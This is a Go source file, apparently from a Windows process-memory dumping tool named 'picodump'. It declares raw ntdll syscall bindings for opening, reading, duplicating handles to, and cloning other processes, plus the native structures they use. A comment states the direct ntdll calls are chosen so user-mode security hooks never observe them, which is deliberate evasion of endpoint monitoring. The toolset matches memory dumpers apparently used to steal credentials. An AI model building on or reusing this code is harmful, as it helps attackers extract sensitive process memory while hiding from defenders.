//go:build windows

package picodump

import "unsafe"

//go:generate go run github.com/Microsoft/go-winio/tools/mkwinsyscall -output zsyscall_windows.go syscall.go

// The kernel services below are reached through their ntdll exports instead
// of the kernel32 wrappers, so a user-mode hook on the documented surface
// never observes them. The inventory is the minimum the dump needs: query
// and read virtual memory, open and duplicate handles, clone a process,
// close.

//sys ntOpenProcess(process *windows.Handle, access uint32, oa *objectAttributes, cid *clientID) (status ntStatus) = ntdll.NtOpenProcess
//sys ntReadVirtualMemory(process windows.Handle, baseAddress uintptr, buffer *byte, size uintptr, read *uintptr) (status ntStatus) = ntdll.NtReadVirtualMemory
//sys ntQueryVirtualMemory(process windows.Handle, baseAddress uintptr, infoClass uint32, info *byte, infoSize uintptr, returnLength *uintptr) (status ntStatus) = ntdll.NtQueryVirtualMemory
//sys ntQueryInformationProcess(process windows.Handle, infoClass uint32, info *byte, infoSize uint32, returnLength *uint32) (status ntStatus) = ntdll.NtQueryInformationProcess
//sys ntQuerySystemInformation(infoClass uint32, info *byte, infoSize uint32, returnLength *uint32) (status ntStatus) = ntdll.NtQuerySystemInformation
//sys ntDuplicateObject(sourceProcess windows.Handle, sourceHandle windows.Handle, targetProcess windows.Handle, targetHandle *windows.Handle, access uint32, attributes uint32, options uint32) (status ntStatus) = ntdll.NtDuplicateObject
//sys ntCreateProcessEx(process *windows.Handle, access uint32, oa *objectAttributes, parent windows.Handle, flags uint32, section windows.Handle, debugPort windows.Handle, token windows.Handle, reserved uint32) (status ntStatus) = ntdll.NtCreateProcessEx
//sys ntTerminateProcess(process windows.Handle, exitStatus uint32) (status ntStatus) = ntdll.NtTerminateProcess
//sys ntClose(h windows.Handle) (status ntStatus) = ntdll.NtClose
//sys rtlNtStatusToDosError(status ntStatus) (winerr error) = ntdll.RtlNtStatusToDosErrorNoTeb
//sys createProcessWithLogon(username *uint16, domain *uint16, password *uint16, logonFlags uint32, appName *uint16, cmdLine *uint16, creationFlags uint32, env uintptr, currentDir *uint16, startupInfo *windows.StartupInfo, processInfo *windows.ProcessInformation) (err error) = advapi32.CreateProcessWithLogonW

//	typedef struct _OBJECT_ATTRIBUTES {
//	  ULONG           Length;
//	  HANDLE          RootDirectory;
//	  PUNICODE_STRING ObjectName;
//	  ULONG           Attributes;
//	  PVOID           SecurityDescriptor;
//	  PVOID           SecurityQualityOfService;
//	} OBJECT_ATTRIBUTES;
type objectAttributes struct {
	Length             uintptr
	RootDirectory      uintptr
	ObjectName         uintptr
	Attributes         uintptr
	SecurityDescriptor uintptr
	SecurityQoS        uintptr
}

type clientID struct {
	UniqueProcess uintptr
	UniqueThread  uintptr
}

type unicodeString struct {
	Length        uint16
	MaximumLength uint16
	_             [4]byte
	Buffer        uint64
}

type memoryBasicInformation struct {
	BaseAddress       uintptr
	AllocationBase    uintptr
	AllocationProtect uint32
	PartitionID       uint16
	_                 [2]byte
	RegionSize        uintptr
	State             uint32
	Protect           uint32
	Type              uint32
	_                 [4]byte
}

type processBasicInformation struct {
	ExitStatus                   uintptr
	PebBaseAddress               uintptr
	AffinityMask                 uintptr
	BasePriority                 uintptr
	UniqueProcessID              uintptr
	InheritedFromUniqueProcessID uintptr
}

//	typedef struct _SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX {
//	  PVOID     Object;
//	  ULONG_PTR UniqueProcessId;
//	  ULONG_PTR HandleValue;
//	  ULONG     GrantedAccess;
//	  USHORT    CreatorBackTraceIndex;
//	  USHORT    ObjectTypeIndex;
//	  ULONG     HandleAttributes;
//	  ULONG     Reserved;
//	} SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX;
type systemHandleTableEntryInfoEx struct {
	Object                uintptr
	UniqueProcessID       uintptr
	HandleValue           uintptr
	GrantedAccess         uint32
	CreatorBackTraceIndex uint16
	ObjectTypeIndex       uint16
	HandleAttributes      uint32
	Reserved              uint32
}

const (
	memoryBasicInformationClass   uint32 = 0
	processBasicInformationClass  uint32 = 0
	systemExtendedHandleInfoClass uint32 = 64
)

const (
	sizeofObjectAttributes           = uint32(unsafe.Sizeof(objectAttributes{}))
	sizeofMemoryBasicInformation     = uintptr(unsafe.Sizeof(memoryBasicInformation{}))
	sizeofProcessBasicInformation    = uint32(unsafe.Sizeof(processBasicInformation{}))
	sizeofSystemHandleTableEntryInfo = uintptr(unsafe.Sizeof(systemHandleTableEntryInfoEx{}))
	systemExtendedHandleHeaderLength = uintptr(16) // NumberOfHandles + Reserved, both pointer sized
)
